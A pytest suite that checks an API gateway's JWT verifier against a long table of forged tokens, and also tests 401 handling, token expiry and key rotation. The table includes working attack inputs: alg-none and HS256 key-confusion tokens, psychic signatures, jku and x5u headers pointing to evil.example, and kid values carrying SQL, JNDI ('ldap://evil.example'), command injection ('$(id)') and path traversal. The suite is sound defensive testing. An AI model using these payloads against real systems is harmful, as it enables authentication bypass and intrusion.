"""Forged, foreign and worn-out tokens, and the change of keys."""

import base64
import hmac
import json
import time
from collections.abc import Callable
from typing import Any

import pytest
import structlog
from cryptography.hazmat.primitives.asymmetric.ec import ECDSA
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature
from cryptography.hazmat.primitives.hashes import SHA256
from joserfc import jwt
from joserfc.jwk import ECKey, OKPKey, RSAKey

from gateway.auth import InvalidTokenError, KeysUnavailableError, TokenVerifier, read_keys

ISSUER = "https://issuer.example"
AUDIENCE = "social-publishing-api"


def b64(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


def unb64(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def with_header(token: str, **changes: Any) -> str:
    """The same payload and signature under another header."""
    header, payload, signature = token.split(".")
    changed = {**json.loads(unb64(header)), **changes}
    return f"{b64(json.dumps(changed).encode())}.{payload}.{signature}"


def with_payload(token: str, **changes: Any) -> str:
    header, payload, signature = token.split(".")
    changed = {**json.loads(unb64(payload)), **changes}
    return f"{header}.{b64(json.dumps(changed).encode())}.{signature}"


def hmac_signed(token: str, secret: bytes, **header: Any) -> str:
    header = {"alg": "HS256", **header}
    text = with_header(token, **header).rpartition(".")[0]
    return f"{text}.{b64(hmac.new(secret, text.encode(), header['alg'].replace('HS', 'sha')).digest())}"


def resigned(issuer: Any, key: Any, alg: str = "ES256", **header: Any) -> str:
    claims = json.loads(unb64(issuer.token().split(".")[1]))
    return jwt.encode({"alg": alg, "typ": "at+jwt", "kid": "k1", **header}, claims, key, algorithms=[alg])


def well_signed(issuer: Any, **header: Any) -> str:
    """With our own key, whatever the header says."""
    unsigned = with_header(issuer.token(), **header).rpartition(".")[0]
    r, s = decode_dss_signature(issuer.key.private_key.sign(unsigned.encode(), ECDSA(SHA256())))
    return f"{unsigned}.{b64(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"


def signed(issuer: Any, payload: bytes, header: bytes = b'{"alg":"ES256","typ":"at+jwt","kid":"k1"}') -> str:
    """Any bytes under our own key's signature."""
    text = f"{b64(header)}.{b64(payload)}"
    r, s = decode_dss_signature(issuer.key.private_key.sign(text.encode(), ECDSA(SHA256())))
    return f"{text}.{b64(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"


def claims_of(issuer: Any) -> bytes:
    return unb64(issuer.token().split(".")[1])


def with_claim(issuer: Any, name: str, literal: str) -> str:
    """Well signed, with this claim as these JSON characters."""
    others = {key: value for key, value in json.loads(claims_of(issuer)).items() if key != name}
    return signed(issuer, f'{json.dumps(others)[:-1]}, "{name}": {literal}}}'.encode())


def with_signature(token: str, signature: bytes) -> str:
    return f"{token.rpartition('.')[0]}.{b64(signature)}"


def numbers(r: int, s: int) -> bytes:
    return r.to_bytes(32, "big") + s.to_bytes(32, "big")


def der(token: str) -> bytes:
    raw = unb64(token.rpartition(".")[2])
    return encode_dss_signature(int.from_bytes(raw[:32], "big"), int.from_bytes(raw[32:], "big"))


def other_spelling(segment: str) -> str:
    """Of the same bytes: bits that base64 leaves over are set."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return segment[:-1] + alphabet[alphabet.index(segment[-1]) | 1]


def flattened(token: str) -> str:
    protected, payload, signature = token.split(".")
    return json.dumps({"payload": payload, "protected": protected, "signature": signature})


ORDER_OF_P256 = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
DEEP = "[" * 3_000 + "]" * 3_000

FORGERIES: dict[str, Callable[[Any], str]] = {
    "empty": lambda i: "",
    "not a token": lambda i: "hello",
    "two parts": lambda i: i.token().rpartition(".")[0],
    "four parts": lambda i: i.token() + ".x",
    "five parts, as of a JWE": lambda i: "a.b.c.d.e",
    "no signature": lambda i: i.token().rpartition(".")[0] + ".",
    "signature cut": lambda i: i.token()[:-4],
    "signature of zeros": lambda i: i.token().rpartition(".")[0] + "." + b64(bytes(64)),
    "signature of other length": lambda i: i.token().rpartition(".")[0] + "." + b64(bytes(8)),
    "alg none": lambda i: with_header(i.token(), alg="none").rpartition(".")[0] + ".",
    "alg None": lambda i: with_header(i.token(), alg="None").rpartition(".")[0] + ".",
    "alg NONE, signature kept": lambda i: with_header(i.token(), alg="NONE"),
    "alg lower case": lambda i: with_header(i.token(), alg="es256"),
    "alg of another key type": lambda i: with_header(i.token(), alg="RS256"),
    "alg EdDSA": lambda i: with_header(i.token(), alg="EdDSA"),
    "alg missing": lambda i: with_header(i.token(), alg=None),
    "alg a list": lambda i: with_header(i.token(), alg=["ES256"]),
    "HS256 with the public PEM": lambda i: hmac_signed(i.token(), i.key.as_pem(private=False)),
    "HS256 with the public DER": lambda i: hmac_signed(i.token(), i.key.as_der(private=False)),
    "HS256 with the public JWK": lambda i: hmac_signed(i.token(), json.dumps(i.key.as_dict(private=False)).encode()),
    "HS256 with nothing": lambda i: hmac_signed(i.token(), b""),
    "another key under our kid": lambda i: resigned(i, ECKey.generate_key("P-256")),
    "another curve": lambda i: resigned(i, ECKey.generate_key("P-384"), alg="ES384"),
    "unknown kid": lambda i: i.token(header={"kid": "k9"}),
    "kid a path": lambda i: i.token(header={"kid": "../../etc/passwd"}),
    "kid missing": lambda i: with_header(i.token(), kid=None),
    "jwk in the header": lambda i: resigned(
        i, (key := ECKey.generate_key("P-256")), kid="k9", jwk=key.as_dict(private=False)
    ),
    "jku in the header": lambda i: resigned(i, ECKey.generate_key("P-256"), kid="k9", jku="https://evil.example"),
    "typ of another kind": lambda i: i.token(header={"typ": "dpop+jwt"}),
    "typ id token": lambda i: i.token(header={"typ": "id+jwt"}),
    "typ missing": lambda i: with_header(i.token(), typ=None),
    "crit": lambda i: well_signed(i, crit=["exp"], exp=1),
    "crit unknown": lambda i: well_signed(i, crit=["x"], x=1),
    "alg none, well signed": lambda i: well_signed(i, alg="none"),
    "kid a number, well signed": lambda i: well_signed(i, kid=1),
    "payload changed": lambda i: with_payload(i.token(), tenant_id="tenant_b"),
    "role raised": lambda i: with_payload(i.token(), roles=["super_admin"]),
    "another issuer": lambda i: i.token(iss="https://evil.example"),
    "issuer with a slash": lambda i: i.token(iss=f"{ISSUER}/"),
    "another audience": lambda i: i.token(aud="other-api"),
    "audiences without ours": lambda i: i.token(aud=["a", "b"]),
    "audience a prefix": lambda i: i.token(aud=AUDIENCE[:-1]),
    "expired": lambda i: i.token(exp=int(time.time()) - 31),
    "issued in the future": lambda i: i.token(iat=int(time.time()) + 60),
    "not valid yet": lambda i: i.token(nbf=int(time.time()) + 60),
    "exp missing": lambda i: i.token(exp=None),
    "iat missing": lambda i: i.token(iat=None),
    "iss missing": lambda i: i.token(iss=None),
    "aud missing": lambda i: i.token(aud=None),
    "sub missing": lambda i: i.token(sub=None),
    "tenant missing": lambda i: i.token(tenant_id=None),
    "roles missing": lambda i: i.token(roles=None),
    "sub empty": lambda i: i.token(sub=""),
    "tenant empty": lambda i: i.token(tenant_id=""),
    "tenant a number": lambda i: i.token(tenant_id=7),
    "roles a string": lambda i: i.token(roles="creator"),
    "exp a string": lambda i: i.token(exp="9999999999"),
    "very long": lambda i: i.token(sub="x" * 20_000),
    "ten megabytes": lambda i: "x" * 10_000_000,
    "a surrogate": lambda i: "\udcff.a.b",
    "not base64": lambda i: "§.§.§",
    "nested": lambda i: ".".join(["e30", b64(i.token().encode()), "x"]),
    "payload not JSON": lambda i: ".".join([i.token().split(".")[0], b64(b"x"), i.token().split(".")[2]]),
    # What says how it is signed.
    "alg nOnE": lambda i: with_header(i.token(), alg="nOnE").rpartition(".")[0] + ".",
    "alg none and a space": lambda i: with_header(i.token(), alg="none ").rpartition(".")[0] + ".",
    "alg empty": lambda i: with_header(i.token(), alg="").rpartition(".")[0] + ".",
    "alg null": lambda i: well_signed(i, alg=None),
    "alg a number": lambda i: well_signed(i, alg=256),
    "alg an object": lambda i: well_signed(i, alg={"ES256": True}),
    "alg with NUL": lambda i: well_signed(i, alg="ES256\0"),
    "alg ES384, our signature": lambda i: well_signed(i, alg="ES384"),
    "alg ES256K, our signature": lambda i: well_signed(i, alg="ES256K"),
    "alg PS256": lambda i: with_header(i.token(), alg="PS256"),
    "HS384 with the public PEM": lambda i: hmac_signed(i.token(), i.key.as_pem(private=False), alg="HS384"),
    "HS512 with the public PEM": lambda i: hmac_signed(i.token(), i.key.as_pem(private=False), alg="HS512"),
    "HS256 with the PEM, stripped": lambda i: hmac_signed(i.token(), i.key.as_pem(private=False).strip()),
    "HS256 with the key's x": lambda i: hmac_signed(i.token(), unb64(i.key.as_dict(private=False)["x"])),
    "HS256 with the kid": lambda i: hmac_signed(i.token(), b"k1"),
    "HS256 with nothing, kid a device": lambda i: hmac_signed(i.token(), b"", kid="../../../dev/null"),
    "RS256 of a stranger": lambda i: resigned(i, RSAKey.generate_key(2048), alg="RS256"),
    "Ed25519 of a stranger": lambda i: resigned(i, OKPKey.generate_key("Ed25519"), alg="EdDSA"),
    # What says which key.
    "kid in capitals": lambda i: well_signed(i, kid="K1"),
    "kid with a space": lambda i: well_signed(i, kid=" k1"),
    "kid with NUL": lambda i: well_signed(i, kid="k1\0"),
    "kid with a path": lambda i: well_signed(i, kid="k1/../k1"),
    "kid encoded": lambda i: well_signed(i, kid="%6b1"),
    "kid a file URL": lambda i: well_signed(i, kid="file:///etc/passwd"),
    "kid a URL": lambda i: well_signed(i, kid="https://evil.example/keys.json"),
    "kid of SQL": lambda i: well_signed(i, kid="k1' OR '1'='1"),
    "kid of a query": lambda i: well_signed(i, kid={"$ne": ""}),
    "kid of a template": lambda i: well_signed(i, kid="${jndi:ldap://evil.example/k}"),
    "kid a command": lambda i: well_signed(i, kid="k1;$(id)"),
    "kid empty": lambda i: well_signed(i, kid=""),
    "kid a list": lambda i: well_signed(i, kid=["k1"]),
    "kid endless": lambda i: well_signed(i, kid="k" * 5_000),
    "jwk beside our kid": lambda i: resigned(
        i, (key := ECKey.generate_key("P-256")), jwk=key.as_dict(private=False), jku="https://evil.example"
    ),
    "x5u beside our kid": lambda i: resigned(i, ECKey.generate_key("P-256"), x5u="https://evil.example/x.pem"),
    "x5c beside our kid": lambda i: resigned(i, ECKey.generate_key("P-256"), x5c=["MIIB"]),
    "x5t beside our kid": lambda i: resigned(i, ECKey.generate_key("P-256"), **{"x5t#S256": "AAAA"}),
    # What says what it is.
    "crit empty": lambda i: well_signed(i, crit=[]),
    "crit a string": lambda i: well_signed(i, crit="exp"),
    "payload not encoded": lambda i: well_signed(i, b64=False, crit=["b64"]),
    "payload not encoded, and not critical": lambda i: well_signed(i, b64=False),
    "typ with a space": lambda i: well_signed(i, typ="at+jwt "),
    "typ a list": lambda i: well_signed(i, typ=["at+jwt"]),
    "typ of a logout": lambda i: well_signed(i, typ="logout+jwt"),
    "typ of an event": lambda i: well_signed(i, typ="secevent+jwt"),
    "typ JWE": lambda i: well_signed(i, typ="JWE"),
    "a token in a token": lambda i: signed(
        i, i.token().encode(), b'{"alg":"ES256","typ":"at+jwt","kid":"k1","cty":"JWT"}'
    ),
    "a JWE": lambda i: ".".join(
        [b64(b'{"alg":"dir","enc":"A256GCM","kid":"k1","typ":"at+jwt"}'), "", b64(bytes(12)), b64(bytes(99)), b64(b"t")]
    ),
    "a JWE that takes long": lambda i: ".".join(
        [
            b64(
                b'{"alg":"PBES2-HS256+A128KW","enc":"A128GCM","p2c":2147483647,"p2s":"AAAA","kid":"k1","typ":"at+jwt"}'
            ),
            b64(bytes(24)),
            b64(bytes(12)),
            b64(bytes(9)),
            b64(bytes(16)),
        ]
    ),
    "as JSON": lambda i: flattened(i.token()),
    "alg twice": lambda i: signed(i, claims_of(i), b'{"alg":"none","alg":"ES256","typ":"at+jwt","kid":"k1"}'),
    "kid twice": lambda i: signed(i, claims_of(i), b'{"alg":"ES256","typ":"at+jwt","kid":"k9","kid":"k1"}'),
    "header a list": lambda i: signed(i, claims_of(i), b'["ES256"]'),
    "header nested": lambda i: signed(i, claims_of(i), f'{{"alg":{DEEP}}}'.encode()),
    "header in UTF-16": lambda i: signed(i, claims_of(i), '{"alg":"ES256","typ":"at+jwt","kid":"k1"}'.encode("utf-16")),
    "header and more": lambda i: signed(i, claims_of(i), b'{"alg":"ES256","typ":"at+jwt","kid":"k1"}{}'),
    "header empty": lambda i: signed(i, claims_of(i), b""),
    # Signatures.
    "psychic signature, r 0": lambda i: with_signature(i.token(), numbers(0, 1)),
    "psychic signature, s 0": lambda i: with_signature(i.token(), numbers(1, 0)),
    "signature of the order": lambda i: with_signature(i.token(), numbers(ORDER_OF_P256, ORDER_OF_P256)),
    "signature of ones": lambda i: with_signature(i.token(), b"\xff" * 64),
    "signature in DER": lambda i: with_signature(i.token(), der(i.token())),
    "signature of zeros in DER": lambda i: with_signature(i.token(), encode_dss_signature(0, 0)),
    "signature and more": lambda i: with_signature(i.token(), unb64(i.token().rpartition(".")[2]) + b"\0"),
    "signature of another token": lambda i: f"{i.token(sub='a').rpartition('.')[0]}.{i.token().rpartition('.')[2]}",
    # Spellings.
    "padded": lambda i: i.token() + "==",
    "padded header": lambda i: i.token().replace(".", "=.", 1),
    "signature spelt otherwise": lambda i: (t := i.token().rpartition("."))[0] + "." + other_spelling(t[2]),
    "standard alphabet": lambda i: with_signature(i.token(), b"\xff" * 64).replace("_", "/"),
    "a space within": lambda i: i.token()[:30] + " " + i.token()[30:],
    "a line break within": lambda i: i.token()[:30] + "\n" + i.token()[30:],
    "a tab before": lambda i: "\t" + i.token(),
    "a no-break space behind": lambda i: i.token() + "\xa0",
    "NUL behind": lambda i: i.token() + "\0",
    "a dot behind": lambda i: i.token() + ".",
    "a dot before": lambda i: "." + i.token(),
    "only dots": lambda i: "..",
    "dots encoded": lambda i: i.token().replace(".", "%2E"),
    "dots of full width": lambda i: i.token().replace(".", "．"),
    "letters of full width": lambda i: chr(ord(i.token()[0]) + 0xFEE0) + i.token()[1:],
    "two tokens": lambda i: f"{i.token()},{i.token()}",
    "Bearer twice": lambda i: f"Bearer {i.token()}",
    "quoted": lambda i: f'"{i.token()}"',
    # Claims that we have signed ourselves, and would not.
    "tenant twice": lambda i: signed(i, claims_of(i)[:-1] + b', "tenant_id": "tenant_b"}'),
    "roles twice": lambda i: signed(i, claims_of(i)[:-1] + b', "roles": ["super_admin"]}'),
    "exp twice": lambda i: signed(i, claims_of(i)[:-1] + b', "exp": 9999999999}'),
    "tenant twice, once escaped": lambda i: signed(i, claims_of(i)[:-1] + b', "tenant\\u005fid": "tenant_b"}'),
    "claims empty": lambda i: signed(i, b"{}"),
    "claims of no bytes": lambda i: signed(i, b""),
    "claims a list": lambda i: signed(i, b"[" + claims_of(i) + b"]"),
    "claims a string": lambda i: signed(i, json.dumps(claims_of(i).decode()).encode()),
    "claims null": lambda i: signed(i, b"null"),
    "claims and more": lambda i: signed(i, claims_of(i) + b"{}"),
    "claims with NUL": lambda i: signed(i, claims_of(i) + b"\0"),
    "claims in UTF-16": lambda i: signed(i, claims_of(i).decode().encode("utf-16")),
    "claims behind a BOM": lambda i: signed(i, b"\xef\xbb\xbf" + claims_of(i)),
    "claims not in UTF-8": lambda i: signed(i, claims_of(i)[:-1] + b', "x": "\xff"}'),
    "claims nested": lambda i: with_claim(i, "x", DEEP),
    "exp null": lambda i: with_claim(i, "exp", "null"),
    "exp true": lambda i: with_claim(i, "exp", "true"),
    "exp a list": lambda i: with_claim(i, "exp", "[9999999999]"),
    "exp not a number": lambda i: with_claim(i, "exp", "NaN"),
    "exp infinite": lambda i: with_claim(i, "exp", "Infinity"),
    "exp negative": lambda i: with_claim(i, "exp", "-1"),
    "exp 0": lambda i: with_claim(i, "exp", "0"),
    "exp beyond numbers": lambda i: with_claim(i, "exp", "1e999"),
    "exp of endless digits": lambda i: with_claim(i, "exp", "9" * 5_000),
    "iat a string": lambda i: with_claim(i, "iat", '"0"'),
    "iat null": lambda i: with_claim(i, "iat", "null"),
    "iat far in the future": lambda i: with_claim(i, "iat", "1e15"),
    "nbf a string": lambda i: with_claim(i, "nbf", '"0"'),
    "nbf true": lambda i: with_claim(i, "nbf", "true"),
    "nbf far in the future": lambda i: with_claim(i, "nbf", "1e15"),
    "iss a list": lambda i: with_claim(i, "iss", json.dumps([ISSUER])),
    "iss in capitals": lambda i: with_claim(i, "iss", json.dumps(ISSUER.upper())),
    "iss with a space": lambda i: with_claim(i, "iss", json.dumps(f"{ISSUER} ")),
    "iss a suffix": lambda i: with_claim(i, "iss", json.dumps(f"{ISSUER}.evil.example")),
    "aud empty": lambda i: with_claim(i, "aud", "[]"),
    "aud an object": lambda i: with_claim(i, "aud", json.dumps({AUDIENCE: True})),
    "aud a list of lists": lambda i: with_claim(i, "aud", json.dumps([[AUDIENCE]])),
    "aud with a number": lambda i: with_claim(i, "aud", json.dumps([AUDIENCE, 1])),
    "aud null": lambda i: with_claim(i, "aud", "null"),
    "aud any": lambda i: with_claim(i, "aud", '"*"'),
    "aud with a space": lambda i: with_claim(i, "aud", json.dumps(f"{AUDIENCE} ")),
    "aud two in one": lambda i: with_claim(i, "aud", json.dumps(f"{AUDIENCE} other")),
    "sub a list": lambda i: with_claim(i, "sub", '["user_001"]'),
    "sub null": lambda i: with_claim(i, "sub", "null"),
    "sub a space": lambda i: with_claim(i, "sub", '" "'),
    "sub with a separator": lambda i: with_claim(i, "sub", '"user\\u001f001"'),
    "sub endless": lambda i: with_claim(i, "sub", json.dumps("x" * 129)),
    "tenant null": lambda i: with_claim(i, "tenant_id", "null"),
    "tenant a list": lambda i: with_claim(i, "tenant_id", '["tenant_a"]'),
    "tenant a query": lambda i: with_claim(i, "tenant_id", '{"$ne": ""}'),
    "tenant true": lambda i: with_claim(i, "tenant_id", "true"),
    "tenant a space": lambda i: with_claim(i, "tenant_id", '" "'),
    "tenant with a line break": lambda i: with_claim(i, "tenant_id", '"tenant_a\\n"'),
    "tenant with NUL": lambda i: with_claim(i, "tenant_id", '"tenant_a\\u0000"'),
    "tenant with a separator": lambda i: with_claim(i, "tenant_id", '"tenant_a\\u001fuser_001"'),
    "tenant with what cannot be seen": lambda i: with_claim(i, "tenant_id", '"tenant\\u200b_a"'),
    "tenant of half a character": lambda i: with_claim(i, "tenant_id", '"\\ud800"'),
    "tenant endless": lambda i: with_claim(i, "tenant_id", json.dumps("x" * 129)),
    "roles an object": lambda i: with_claim(i, "roles", '{"super_admin": true}'),
    "roles null": lambda i: with_claim(i, "roles", "null"),
    "roles in a list": lambda i: with_claim(i, "roles", '[["super_admin"]]'),
    "roles of numbers": lambda i: with_claim(i, "roles", "[0]"),
    "roles with null": lambda i: with_claim(i, "roles", '["creator", null]'),
    "roles true": lambda i: with_claim(i, "roles", "true"),
    "role under another name": lambda i: signed(i, claims_of(i).replace(b'"roles"', b'"role"')),
    "tenant under another name": lambda i: signed(i, claims_of(i).replace(b'"tenant_id"', b'"tenant"')),
}


@pytest.fixture
async def verifier(issuer: Any) -> TokenVerifier:
    verifier = TokenVerifier(issuer, issuer=ISSUER, audience=AUDIENCE)
    await verifier.load()
    return verifier


async def test_a_good_token_says_who_asks(verifier: TokenVerifier, issuer: Any) -> None:
    principal = await verifier.verify(issuer.token(aud=["other", AUDIENCE], roles=["creator", "manager"]))
    assert (principal.tenant_id, principal.subject) == ("tenant_a", "user_001")
    assert principal.roles == {"creator", "manager"}
    assert await verifier.verify(issuer.token(header={"typ": "JWT"}))
    for made in (well_signed(issuer), signed(issuer, claims_of(issuer)), with_claim(issuer, "x", '{"y": [1, null]}')):
        assert await verifier.verify(made), "or else the forgeries below prove nothing"
    assert await verifier.verify(issuer.token(exp=int(time.time()) - 10)), "within the leeway"


@pytest.mark.parametrize("name", FORGERIES)
async def test_no_forged_or_worn_out_token_is_taken(verifier: TokenVerifier, issuer: Any, name: str) -> None:
    with pytest.raises(InvalidTokenError):
        await verifier.verify(FORGERIES[name](issuer))


async def test_a_token_that_lost_or_changed_anything_is_refused(verifier: TokenVerifier, issuer: Any) -> None:
    token = issuer.token()
    header, payload, signature = token.split(".")
    cut = [token[:length] for length in range(len(token))] + [token[start:] for start in range(1, len(token))]
    flipped = [
        f"{token[:at]}{chr(ord(token[at]) ^ 1 << bit)}{token[at + 1 :]}"
        for at in range(len(token))
        for bit in (0, 2, 5)
    ]
    mixed = [f"{header}.{signature}.{payload}", f"{payload}.{header}.{signature}", f"{header}.{payload}.{payload}"]
    for changed in (*cut, *flipped, *mixed):
        with pytest.raises(InvalidTokenError):
            await verifier.verify(changed)
    assert await verifier.verify(token)


async def test_every_forgery_is_answered_401_and_told_nothing(world: Any) -> None:
    issuer, shown = world.issuer, []

    async def ask(*headers: tuple[bytes, bytes], query: bytes = b"") -> tuple[int, dict[bytes, bytes], bytes]:
        """As raw bytes: a client library would not send most of these."""
        sent: list[Any] = []
        scope = {
            "type": "http",
            "method": "GET",
            "path": "/api/v1/creator/social/posts",
            "raw_path": b"/api/v1/creator/social/posts",
            "query_string": query,
            "headers": list(headers),
            "client": ("203.0.113.9", 4711),
        }

        async def receive() -> dict[str, Any]:
            return {"type": "http.request", "body": b"", "more_body": False}

        async def send(message: Any) -> None:
            sent.append(message)

        await world.app(scope, receive, send)
        return sent[0]["status"], dict(sent[0]["headers"]), b"".join(part["body"] for part in sent[1:])

    async with world.client() as api:
        assert (await api.get("/posts")).status_code == 200, "or else the refusals below prove nothing"
    with structlog.testing.capture_logs() as logs:
        for name, forge in FORGERIES.items():
            token = forge(issuer).encode("utf-8", "surrogatepass")
            status, headers, body = await ask((b"authorization", b"Bearer " + token))
            if len(token) > 32_768:
                assert status == 431, name
                continue
            problem = json.loads(body)
            assert (status, problem["code"], problem["status"]) == (401, "unauthenticated", 401), (name, body)
            assert headers[b"www-authenticate"].startswith(b"Bearer"), name
            assert headers[b"cache-control"] == b"no-store"
            shown.append((token, body))
        good = issuer.token().encode()
        for where in (
            (b"cookie", b"access_token=" + good),
            (b"x-access-token", good),
            (b"authorization", good),
            (b"authorization", b"Basic " + good),
            (b"authorization", b"DPoP " + good),
            (b"proxy-authorization", b"Bearer " + good),
        ):
            assert (await ask(where))[0] == 401, where
        assert (await ask(query=b"access_token=" + good))[0] == 401
    told = repr(logs).encode()
    for token, body in shown:
        assert b"Traceback" not in body
        assert b"joserfc" not in body
        for part in token.split(b"."):
            assert len(part) < 20 or (part not in body and part not in told)
    assert len(shown) >= 60


async def test_a_remembered_token_is_forgotten_when_it_expires(issuer: Any) -> None:
    now = time.time()
    verifier = TokenVerifier(issuer, issuer=ISSUER, audience=AUDIENCE, now=lambda: now)
    await verifier.load()
    token = issuer.token(exp=int(now) + 5)
    assert await verifier.verify(token)
    assert await verifier.verify(token)
    now += 40
    with pytest.raises(InvalidTokenError):
        await verifier.verify(token)


async def test_a_new_key_is_found_and_reloads_are_rare(issuer: Any) -> None:
    now = time.time()
    loads = 0

    class Source:
        keys = [issuer.key]

        async def load(self) -> bytes:
            nonlocal loads
            loads += 1
            return json.dumps({"keys": [key.as_dict(private=False) for key in self.keys]}).encode()

    source = Source()
    verifier = TokenVerifier(source, issuer=ISSUER, audience=AUDIENCE, now=lambda: now)
    await verifier.load()
    fresh = ECKey.generate_key("P-256", {"kid": "k2", "alg": "ES256"})
    source.keys = [issuer.key, fresh]
    token = resigned(issuer, fresh, kid="k2")
    with pytest.raises(InvalidTokenError):
        await verifier.verify(token)
    assert loads == 1, "the keys were read a moment ago"
    now += 61
    assert await verifier.verify(token)
    for number in range(20):
        with pytest.raises(InvalidTokenError):
            await verifier.verify(with_header(token, kid=f"x{number}"))
    assert loads == 2
    source.keys = [fresh]
    await verifier.load()
    with pytest.raises(InvalidTokenError):
        await verifier.verify(issuer.token(jti="not seen before"))


async def test_without_any_keys_nobody_is_judged(issuer: Any) -> None:
    class Away:
        async def load(self) -> bytes:
            raise KeysUnavailableError("away")

    verifier = TokenVerifier(Away(), issuer=ISSUER, audience=AUDIENCE)
    assert verifier.healthy() is not None
    with pytest.raises(KeysUnavailableError):
        await verifier.verify(issuer.token())


def test_each_key_has_one_algorithm_and_weak_or_secret_keys_none() -> None:
    good = [
        ECKey.generate_key("P-256", {"kid": "ec"}),
        OKPKey.generate_key("Ed25519", {"kid": "okp"}),
        RSAKey.generate_key(2048, {"kid": "rsa"}),
    ]
    entries = [key.as_dict(private=False) for key in good]
    bad = [
        {"kty": "oct", "kid": "oct", "k": "c2VjcmV0LXNlY3JldC1zZWNyZXQtc2VjcmV0"},
        {**entries[0], "kid": "alg", "alg": "HS256"},
        {**entries[0], "kid": "enc", "use": "enc"},
        {**entries[0], "kid": None},
        {**ECKey.generate_key("P-521").as_dict(private=False), "kid": "p521"},
        {"kty": "EC", "kid": "broken"},
        "not a key",
    ]
    keys = read_keys(json.dumps({"keys": [*entries, *bad]}).encode())
    assert {kid: key.algorithm for kid, key in keys.items()} == {"ec": "ES256", "okp": "EdDSA", "rsa": "RS256"}


@pytest.mark.parametrize("document", [b"", b"[]", b"{}", b'{"keys": []}', b'{"keys": 7}', b"\xff"])
def test_what_is_no_jwks_is_refused(document: bytes) -> None:
    with pytest.raises(KeysUnavailableError):
        read_keys(document)


@pytest.mark.parametrize(
    "headers",
    [
        {},
        {"Authorization": ""},
        {"Authorization": "Bearer"},
        {"Authorization": "Bearer "},
        {"Authorization": "Basic dXNlcjpwYXNz"},
        {"Authorization": "Bearer forged.forged.forged"},
    ],
)
async def test_without_a_good_token_the_answer_is_401_with_a_challenge(world: Any, headers: dict[str, str]) -> None:
    async with world.client() as api:
        del api.headers["authorization"]
        answer = await api.get("/posts", headers=headers)
    assert (answer.status_code, answer.json()["code"]) == (401, "unauthenticated")
    assert answer.headers["www-authenticate"].startswith("Bearer")


async def test_two_authorization_headers_are_refused(world: Any) -> None:
    token = world.issuer.token()
    async with world.client() as api:
        answer = await api.get(
            "/posts", headers=[("Authorization", f"Bearer {token}"), ("Authorization", f"Bearer {token}")]
        )
    assert answer.status_code == 401
